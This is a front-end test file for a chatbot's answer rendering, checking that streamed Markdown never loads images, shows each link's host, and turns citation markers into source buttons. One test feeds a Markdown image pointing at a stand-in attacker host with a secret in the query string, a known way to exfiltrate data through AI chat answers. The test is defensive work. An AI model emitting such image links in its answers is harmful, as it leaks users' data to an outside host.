import { fireEvent, screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';

import {
  CITATION,
  createFakeChatbot,
  sseBody,
  storedFileOf,
  topicOf,
} from './testing/fake-chatbot';
import { renderChatbot } from './testing/render-chatbot';

/** Asks once and answers with `text` streamed, citing CITATION as source 1. */
async function answerWith(text: string) {
  const chatbot = createFakeChatbot({ topics: [topicOf('contratos')] });
  chatbot.state.answer = sseBody([
    ['start', { message_id: 'm-1', conversation_id: 'c-1', engine: 'builtin' }],
    ['delta', { text }],
    ['citations', { citations: [CITATION] }],
  ]);
  const cited = storedFileOf(CITATION.file_id, CITATION.filename);
  // The cited file, for the preview a citation opens.
  renderChatbot(chatbot, '/chatbot/run-topic/contratos', {
    routes: {
      [`GET /api/storage/files/${CITATION.file_id}`]: () =>
        Response.json({ success: true, data: cited }),
      'POST /api/storage/files/preview': () =>
        Response.json({
          success: true,
          data: { kind: 'text', file: cited, text: `Cláusula 3. ${CITATION.quote} Firmado.` },
        }),
    },
  });
  const input = await screen.findByLabelText('Your question');
  fireEvent.change(input, { target: { value: '¿Plazo?' } });
  fireEvent.keyDown(input, { key: 'Enter' });
  return screen.findByRole('button', { name: '[1] contrato.pdf p. 2' });
}

/**
 * The streamed answer's Markdown (the fake's stored copy of the message, with its own words, can
 * show in the history above it).
 */
const markdown = () => {
  const found = document.querySelector<HTMLElement>('[aria-live] .chatbot-markdown');
  if (!found) {
    throw new Error('no streamed answer');
  }
  return found;
};

describe('answer Markdown (issue 11 "Safety of answers")', () => {
  it('never loads an image: it shows as a link with its alt text and whole address', async () => {
    await answerWith('Mira ![el recibo](https://evil.example/x.png?d=secreto) y sigue.');

    expect(document.querySelector('.chatbot-answer img')).toBeNull();
    expect(document.querySelector('img[src*="evil.example"]')).toBeNull();
    const link = within(markdown()).getByRole('link', {
      name: 'Image: el recibo',
    });
    expect(link.getAttribute('href')).toBe('https://evil.example/x.png?d=secreto');
    expect(markdown().textContent).toContain('(https://evil.example/x.png?d=secreto)');
  });

  it("shows each link's host beside its text", async () => {
    await answerWith(
      'Véase [la ley](https://www.boe.es/buscar/act.php?id=1) y [correo](mailto:ana@example.com).',
    );

    const law = within(markdown()).getByRole('link', { name: 'la ley' });
    expect(law.getAttribute('rel')).toContain('noopener');
    expect(law.nextElementSibling?.textContent).toBe('(www.boe.es)');
    expect(
      within(markdown()).getByRole('link', { name: 'correo' }).nextElementSibling?.textContent,
    ).toBe('(ana@example.com)');
  });

  it('draws a citation marker as a button that opens its source, and leaves unknown ones as text', async () => {
    await answerWith('El plazo es de 30 días [1], no de 60 [7]. `[1]` en código.');

    const marker = within(markdown()).getByRole('button', {
      name: 'Source [1]: contrato.pdf p. 2',
    });
    expect(marker.textContent).toBe('[1]');
    expect(markdown().textContent).toContain('no de 60 [7].');
    expect(markdown().querySelector('code')?.textContent).toBe('[1]');
    expect(within(markdown()).getAllByRole('button')).toHaveLength(1);

    fireEvent.click(marker);
    const preview = await screen.findByText('Cláusula 3.', { exact: false, selector: 'pre' });
    expect(within(preview).getByText(CITATION.quote).tagName).toBe('MARK');
  });
});
